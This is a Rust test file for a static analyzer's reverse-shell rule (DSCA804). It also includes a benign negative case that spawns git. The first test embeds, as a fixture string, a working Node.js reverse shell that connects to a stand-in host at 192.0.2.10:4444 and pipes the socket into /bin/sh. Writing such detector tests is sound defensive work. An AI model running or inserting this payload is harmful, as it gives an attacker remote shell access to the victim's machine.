use super::*;

#[test]
fn dsca804_socket_piped_to_a_shell() {
    let fixture = library(
        r#"const net = require('net'), cp = require('child_process');
const client = net.connect(4444, '192.0.2.10', () => {
  const sh = cp.spawn('/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
"#,
    );
    let findings = fixture.code_findings("DSCA804");
    assert_yaml_snapshot!(findings);
    assert_eq!(findings[0].severity, Severity::Critical);
}

#[test]
fn dsca804_server_running_git_is_fine() {
    let fixture = library(
        "const net = require('net'), cp = require('child_process');\nnet.createServer(s => s.pipe(s)).listen(0);\ncp.spawn('git', ['status']);\n",
    );
    assert!(fixture.code_findings("DSCA804").is_empty());
}
